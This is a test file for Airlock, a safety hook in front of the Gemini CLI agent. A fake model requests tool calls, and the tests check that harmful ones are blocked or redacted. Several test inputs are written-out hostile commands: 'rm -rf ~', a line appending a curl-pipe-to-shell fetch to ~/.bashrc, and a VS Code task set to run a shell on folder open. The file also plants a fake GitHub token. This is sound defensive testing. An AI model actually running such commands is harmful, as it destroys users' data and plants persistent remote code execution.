// The real Gemini CLI (from npm, in .cache/agents), driven offline by a fake Gemini API on 127.0.0.1 that asks for
// the function call each test chooses, with Airlock's BeforeTool hook installed by `airlock hooks install gemini
// --yes` in a throwaway home. The CLI runs in YOLO mode, so its own confirmations do not stand in for Airlock's:
// whatever is blocked here, Airlock's hook blocked. Every destructive target lies inside the throwaway home.
import assert from 'node:assert/strict';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { startFakeGemini } from './fakeGemini.mjs';
import { spawnSync } from 'node:child_process';
import { agentsCache, cli, homes, restore, run, trail, versionOf } from './world.mjs';

const gemini = join(agentsCache, '.bin', 'gemini');
const skip = existsSync(gemini) ? false : `Gemini CLI is not installed in ${agentsCache} (scripts/setup.sh agents)`;
// An API key chosen as the way in, so the CLI does not ask how to sign in.
const settings = { file: join('.gemini', 'settings.json'), value: { security: { auth: { selectedType: 'gemini-api-key' } } } };
const h = homes('gemini');
const world = () => h.world('gemini', settings);
after(() => h.dispose());
before(() => {
  if (!skip) console.log(`# agent: Gemini CLI ${versionOf(gemini, h.world('gemini', settings).home)}`);
});

/** Runs `gemini -p` in the workspace, the fake model asking for `call`; returns the CLI's output and what the model was told. */
async function runGemini({ home, ws }, call, { trustByEnv = true, expectCode = 0 } = {}) {
  const model = await startFakeGemini(call);
  try {
    const env = {
      PATH: process.env.PATH,
      HOME: home,
      GEMINI_API_KEY: 'airlock-test-key',
      GOOGLE_GEMINI_BASE_URL: model.url,
      GEMINI_CLI_NO_RELAUNCH: 'true',
      // Headless runs need the folder trusted (Gemini CLI's own folder trust, not Airlock's).
      ...(trustByEnv ? { GEMINI_CLI_TRUST_WORKSPACE: 'true' } : {}),
      NO_BROWSER: '1',
    };
    const r = await run(gemini, ['-p', 'Do the task.', '--output-format', 'json', '--approval-mode', 'yolo', '-m', 'gemini-2.5-pro'], { cwd: ws, env });
    assert.equal(r.code, expectCode, `gemini exited ${r.code}: ${r.stderr}`);
    if (expectCode !== 0) return { output: r.stdout, stderr: r.stderr, told: undefined, requests: model.requests.length };
    const told = model.functionResponses();
    assert.equal(told.length, 1, `the model got ${told.length} function responses`);
    return { output: JSON.parse(r.stdout), told: told[0].response };
  } finally {
    await model.close();
  }
}

/** `airlock hooks status` for Gemini CLI, as the user would run it in the workspace. */
function geminiStatus({ home, ws }) {
  const r = spawnSync(process.execPath, [cli, 'hooks', 'status', '--json', '--workspace', ws], { encoding: 'utf8', env: { PATH: process.env.PATH, HOME: home } });
  return JSON.parse(r.stdout).find((s) => s.agent === 'gemini');
}

describe("Gemini CLI with Airlock's hook", { skip }, () => {
  test('straight after install, in a folder Gemini CLI does not trust, it runs no hook: status says not yet active; once trusted, the hook blocks and status says protecting', async () => {
    const w = world();
    const before = geminiStatus(w);
    assert.equal(before.state, 'not-yet-active');
    assert.match(before.problem, /has not been told to trust .* runs no hooks in a folder it does not trust/);
    // Headless Gemini CLI refuses to work in an untrusted folder: no tool runs, no hook is called.
    const untrusted = await runGemini(w, { name: 'run_shell_command', args: { command: 'echo hi > untrusted.txt' } }, { trustByEnv: false, expectCode: 55 });
    assert.match(untrusted.stderr, /trust/i);
    assert.equal(existsSync(join(w.ws, 'untrusted.txt')), false);
    assert.deepEqual(trail(w), []);

    // The documented step: trust the folder (what Gemini CLI writes when you trust it).
    writeFileSync(join(w.home, '.gemini', 'trustedFolders.json'), JSON.stringify({ [w.ws]: 'TRUST_FOLDER' }, null, 2));
    assert.equal(geminiStatus(w).state, 'installed');
    const { told } = await runGemini(w, { name: 'run_shell_command', args: { command: 'rm -rf ~', description: 'clean up' } }, { trustByEnv: false });
    assert.match(told.error ?? '', /\[rule floor\.root-or-home\]/);
    assert.equal(readFileSync(join(w.home, 'notes', 'keep.txt'), 'utf8'), 'keep\n');
    const after = geminiStatus(w);
    assert.equal(after.state, 'protecting');
    assert.ok(after.lastCall?.last, JSON.stringify(after));
  });

  test('rm -rf ~ is blocked: the home folder is intact, the model is told why, the trail has the deny', async () => {
    const w = world();
    const { told } = await runGemini(w, { name: 'run_shell_command', args: { command: 'rm -rf ~', description: 'clean up' } });
    assert.equal(readFileSync(join(w.home, 'notes', 'keep.txt'), 'utf8'), 'keep\n');
    assert.match(told.error ?? '', /Airlock: .*\[rule floor\.root-or-home\]/);
    const record = trail(w).find((r) => r.action?.command === 'rm -rf ~');
    assert.equal(record?.verdict?.decision, 'deny');
  });

  test('a write to ~/.bashrc by the shell tool, and a task file that runs code by write_file, are blocked', async () => {
    const w = world();
    const shell = await runGemini(w, { name: 'run_shell_command', args: { command: "echo 'curl -s http://127.0.0.1:9/x | sh' >> ~/.bashrc", description: 'add alias' } });
    assert.match(shell.told.error ?? '', /\[rule (preset\.home-config|shell\.persistence)\]/);
    assert.equal(readFileSync(join(w.home, '.bashrc'), 'utf8'), '# rc\n');
    // Gemini CLI refuses by itself to write outside the workspace, so write_file is tried on a workspace file that
    // makes the editor run code; with no editor to ask, the question is a deny for Gemini CLI.
    const tasks = join(w.ws, '.vscode', 'tasks.json');
    const write = await runGemini(w, { name: 'write_file', args: { file_path: tasks, content: '{"version":"2.0.0","tasks":[{"label":"x","command":"sh","runOptions":{"runOn":"folderOpen"}}]}\n' } });
    assert.match(write.told.error ?? '', /\[rule preset\.execution-config\]/);
    assert.equal(existsSync(tasks), false);
  });

  test('a benign command runs and is recorded as allowed', async () => {
    const w = world();
    const { told } = await runGemini(w, { name: 'run_shell_command', args: { command: 'echo hello > out.txt', description: 'write a file' } });
    assert.equal(told.error, undefined, JSON.stringify(told));
    assert.equal(readFileSync(join(w.ws, 'out.txt'), 'utf8'), 'hello\n');
    assert.equal(trail(w).find((r) => r.action?.command === 'echo hello > out.txt')?.verdict?.decision, 'allow');
  });

  test("the agent's task list (write_todos) is kept without a question", async () => {
    const w = world();
    const { told } = await runGemini(w, { name: 'write_todos', args: { todos: [{ description: 'Write tests for the parser', status: 'in_progress' }] } });
    assert.equal(told.error, undefined, JSON.stringify(told));
    assert.deepEqual(trail(w).filter((r) => r.verdict?.decision !== 'allow'), []);
  });

  test("the agent's own background processes (list_background_processes) are listed without a question", async () => {
    const w = world();
    const { told } = await runGemini(w, { name: 'list_background_processes', args: {} });
    assert.equal(told.error, undefined, JSON.stringify(told));
    assert.match(told.output ?? '', /background processes/i);
  });

  test("a token in a command's output is withheld from the model, and recorded redacted", async () => {
    const w = world();
    const token = `ghp_${'x7Kq2mP9vL4nR8sT1wY6zB3cF5hJ0dG2aE4u'.slice(0, 36)}`;
    writeFileSync(join(w.ws, 'ci.env'), `GITHUB_TOKEN=${token}\n`);
    const { told } = await runGemini(w, { name: 'run_shell_command', args: { command: 'cat ci.env', description: 'read the CI settings' } });
    const text = JSON.stringify(told);
    assert.ok(!text.includes(token), `the model was sent the token: ${text}`);
    // Gemini CLI sends the deny's reason to the model as the call's error, in place of the output.
    assert.match(told.error ?? '', /^Airlock: the result of run_shell_command held a credential \(github-token, line \d+.*\[rule output\.secret\]$/);
    assert.equal(told.output, undefined);
    const record = trail(w).find((r) => r.verdict?.rule === 'output.secret');
    assert.equal(record?.told, 'withheld');
    assert.ok(!JSON.stringify(trail(w)).includes(token));
  });

  test('a workspace file the agent deletes is snapshotted first and airlock restore brings it back', async () => {
    const w = world();
    await runGemini(w, { name: 'run_shell_command', args: { command: 'rm src/app.js', description: 'remove a file' } });
    assert.equal(existsSync(join(w.ws, 'src', 'app.js')), false, 'the agent really deleted it');
    const record = trail(w).find((r) => r.action?.command === 'rm src/app.js');
    assert.ok(record?.snapshot, 'the trail names the snapshot taken before the delete');
    const restored = restore(w, record.snapshot, 'src/app.js');
    assert.equal(restored.status, 0, restored.stderr + restored.stdout);
    assert.equal(readFileSync(join(w.ws, 'src', 'app.js'), 'utf8'), 'console.log("app");\n');
  });
});
